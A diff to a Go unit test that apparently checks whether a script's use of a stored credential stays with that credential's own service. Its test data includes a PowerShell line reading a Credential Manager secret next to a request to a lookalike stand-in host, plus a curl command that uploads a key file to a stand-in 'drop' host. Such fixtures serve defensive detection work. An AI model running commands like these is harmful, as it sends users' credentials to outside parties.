@@ -66,6 +66,13 @@ func TestOwnServiceContext(t *testing.T) {
 			t.Errorf("ownService to %s = %v, want %v", tc.url, got, tc.want)
 		}
 	}
+	// Windows Credential Manager names its item by -Target.
+	ps := `$cred = Get-StoredCredential -Target 'azure-devops'`
+	for url, want := range map[string]bool{"https://dev.azure.com/$Org/_apis/pipelines": true, "https://azure-devops.example-x.net/in": false} {
+		if got := OwnService(ps, []byte(ps+"\nInvoke-RestMethod -Uri \""+url+"\"\n")); got != want {
+			t.Errorf("ownService of a Credential Manager target to %s = %v, want %v", url, got, want)
+		}
+	}
 	file := []byte(line + "\ncurl -sS https://api.linear.app/graphql -H \"Authorization: $key\"\ncurl -d @/tmp/k https://drop.example-x.net\n")
 	if OwnService(line, file) {
 		t.Error("own_service with a second host in the file")
